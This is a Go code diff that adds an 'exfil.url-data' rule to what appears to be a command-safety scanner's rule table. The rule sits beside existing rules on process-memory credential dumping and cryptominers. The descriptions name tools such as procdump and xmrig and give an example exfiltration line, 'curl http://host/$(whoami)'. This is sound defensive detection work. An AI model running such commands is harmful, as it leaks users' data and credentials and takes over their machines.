@@ -114,6 +114,7 @@ const (
 	rCollectCapture
 	rCredProcessMemory
 	rDisruptMiner
+	rExfilURLData
 
 	numRules
 )
@@ -348,6 +349,8 @@ var familyRules = map[ruleIndex]Rule{
 		"Captures the screen, the clipboard, the microphone or camera, the keyboard, or live network traffic."},
 	rCredProcessMemory: {"credential.process-memory", CategoryCredentialAccess, critical, block,
 		"Dumps or reads another process's memory (gcore, procdump, gdb generate-core-file, /proc/PID/mem), where keys and tokens in use sit in the clear."},
+	rExfilURLData: {"exfil.url-data", CategoryExfiltration, medium, escalate,
+		"Puts the output of a command that reveals the machine, its user or its files into a URL for a host that is not trusted (curl http://host/$(whoami)): a GET carries data out as a POST does."},
 	rDisruptMiner: {"disruption.cryptominer", CategorySystemDisruption, high, block,
 		"Runs a cryptocurrency miner (xmrig and its kin, a stratum+tcp:// pool, xmrig's --donate-level): it takes the machine's CPU for someone else."},
 }
